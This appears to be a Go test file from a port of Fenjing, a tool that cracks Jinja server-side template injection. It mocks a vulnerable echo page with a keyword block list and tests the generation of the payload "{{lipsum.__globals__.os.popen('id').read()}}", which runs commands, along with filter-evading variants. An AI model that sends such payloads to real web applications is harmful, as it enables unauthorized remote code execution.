package cracker

import (
	"context"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fuucckk/Fenjing/pkg/options"
	"github.com/fuucckk/Fenjing/pkg/submit"
)

// vulnTarget emulates an echo page with a python3 engine: input renders
// between fixed page chrome, probes behave, and one known command payload
// "executes".
type vulnTarget struct {
	blocked []string
}

var condRe = regexp.MustCompile(`^\{\{'([0-9a-f]+)' if (.+) else ''\}\}$`)

func (v *vulnTarget) Submit(_ context.Context, payload string) (*submit.Result, error) {
	for _, k := range v.blocked {
		if strings.Contains(payload, k) {
			return &submit.Result{StatusCode: 403, Text: "<html>blocked</html>"}, nil
		}
	}

	out := payload
	if strings.HasPrefix(payload, "{#") && strings.HasSuffix(payload, "#}") {
		out = ""
	}
	if m := condRe.FindStringSubmatch(payload); m != nil {
		out = ""
		if m[2] == "'x'.isdecimal" || m[2] == "'x'.isascii" || m[2] == "'x'.removeprefix" {
			out = m[1]
		}
	}
	if payload == "{{lipsum.__globals__.os.popen('id').read()}}" {
		out = "uid=0(root)\n"
	}
	return &submit.Result{StatusCode: 200, Text: "<html><p>" + out + "</p></html>"}, nil
}

func TestExecuteExtractsOutput(t *testing.T) {
	t.Parallel()

	c, err := New(context.Background(), &vulnTarget{}, options.Default(), nil)
	require.NoError(t, err)

	f, err := c.Execute(context.Background(), "id")
	require.NoError(t, err)
	assert.Equal(t, "{{lipsum.__globals__.os.popen('id').read()}}", f.Payload)
	assert.True(t, f.WillEcho)
	assert.Equal(t, "uid=0(root)\n", f.Output)
	assert.Equal(t, "command", f.Kind)
	assert.Equal(t, "id", f.Goal)
}

func TestExtractFallsBackToWholePage(t *testing.T) {
	t.Parallel()

	c, err := New(context.Background(), &vulnTarget{}, options.Default(), nil)
	require.NoError(t, err)

	got := c.extract("completely different page")
	assert.Equal(t, "completely different page", got)
}

func TestOfflinePayloadHonorsKeywords(t *testing.T) {
	t.Parallel()

	opts := options.Default()
	opts.Keywords = []string{"."}
	c := NewOffline(opts)

	f, err := c.Payload("id")
	require.NoError(t, err)
	assert.NotEmpty(t, f.Payload)
	assert.NotContains(t, f.Payload, ".")
	assert.Contains(t, f.Payload, "popen")
}
